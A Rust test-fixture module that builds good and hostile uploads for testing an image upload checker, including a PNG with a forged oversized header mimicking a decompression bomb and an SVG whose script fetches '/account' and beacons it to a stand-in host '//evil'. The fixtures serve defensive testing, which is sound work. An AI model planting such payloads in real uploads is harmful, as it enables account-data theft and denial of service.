//! Uploads made in the tests, good and bad; no image file is committed.

use std::io::Cursor;

use image::{DynamicImage, ImageFormat, Rgb, RgbImage};

/// A photo-like gradient.
pub fn photo(width: u32, height: u32, format: ImageFormat) -> Vec<u8> {
    let image = DynamicImage::ImageRgb8(RgbImage::from_fn(width, height, |x, y| {
        Rgb([
            x.to_le_bytes()[0],
            y.to_le_bytes()[0],
            (x + y).to_le_bytes()[0],
        ])
    }));
    encode(&image, format)
}

/// Pseudo-random pixels: a valid PNG that compresses badly, so it is big on disk.
pub fn noise_png(width: u32, height: u32) -> Vec<u8> {
    let mut state = 0x2545_f491_u32;
    let image = DynamicImage::ImageRgb8(RgbImage::from_fn(width, height, |_, _| {
        let mut channel = || {
            state ^= state << 13;
            state ^= state >> 17;
            state ^= state << 5;
            state.to_le_bytes()[0]
        };
        Rgb([channel(), channel(), channel()])
    }));
    encode(&image, ImageFormat::Png)
}

/// A tiny PNG whose header declares `width`×`height`: what a decompression bomb looks like
/// before its pixel data is read.
pub fn png_declaring(width: u32, height: u32) -> Vec<u8> {
    let mut png = photo(1, 1, ImageFormat::Png);
    // Signature (8), IHDR length (4), "IHDR" (4), then width and height; the CRC follows the
    // 13 data bytes and covers the chunk type and data.
    assert_eq!(&png[12..16], b"IHDR");
    png[16..20].copy_from_slice(&width.to_be_bytes());
    png[20..24].copy_from_slice(&height.to_be_bytes());
    let crc = crc32(&png[12..29]);
    png[29..33].copy_from_slice(&crc.to_be_bytes());
    png
}

/// A text file, as if renamed `photo.jpg` (names never reach the checks).
pub fn text_named_jpg() -> Vec<u8> {
    b"Opening hours: Monday to Friday, 9 to 5.\n".to_vec()
}

/// An SVG carrying a script.
pub fn svg_with_script() -> Vec<u8> {
    br#"<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
  <script>fetch('/account').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))</script>
  <rect width="10" height="10"/>
</svg>"#
        .to_vec()
}

fn encode(image: &DynamicImage, format: ImageFormat) -> Vec<u8> {
    let mut bytes = Cursor::new(Vec::new());
    image.write_to(&mut bytes, format).unwrap();
    bytes.into_inner()
}

/// CRC-32 as PNG chunks use it (ISO 3309, reflected, polynomial 0xEDB88320).
fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = u32::MAX;
    for &byte in bytes {
        crc ^= u32::from(byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}
